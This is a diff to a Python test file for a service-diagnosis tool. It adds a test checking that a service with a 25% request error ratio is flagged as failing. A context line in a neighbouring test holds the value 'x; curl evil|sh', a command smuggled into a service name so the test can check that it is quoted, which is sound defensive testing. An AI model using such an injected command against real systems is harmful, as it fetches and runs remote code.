@@ -101,6 +101,22 @@ def test_many_requests_behind_one_that_fail_are_a_storm() -> None:
     assert verdict("network", net=NET, metrics=metrics).mechanism == "retry-storm"
 
 
+def test_requests_that_fail_are_never_healthy() -> None:
+    values = {"stacks": {**STANDS, "same": {"threads": 0, "lock_waiters": 0}}, "threads": THREADS, "watch": CALM}
+    failing = {
+        "requests_per_s": 10.0,
+        "errors_ratio": 0.25,
+        "evictions_per_s": 0.0,
+        "hit_ratio": 0.9,
+        "latency_s": 0.05,
+    }
+    found = verdict("slow-service", **values, metrics=failing, logs={"last_error": "ERROR model too large"})
+    assert (found.mechanism, found.status) == ("requests-fail", Outcome.WARNING)
+    assert found.says == "25% of its requests fail, whatever the time they take; its log says: ERROR model too large"
+    fine = verdict("slow-service", **values, metrics={**failing, "errors_ratio": 0.01})
+    assert fine.mechanism is None
+
+
 def test_a_name_that_is_a_command_is_quoted_in_what_to_do() -> None:
     flows = {"down": {"busy_share": 0.9, "longest_s": 3.0, "service": "x"}, "pool": {"kind": "tcp"},
              "chain": {"end": "x; curl evil|sh", "end_longest_s": 3.0, "length": 1, "end_cores": 0.1,
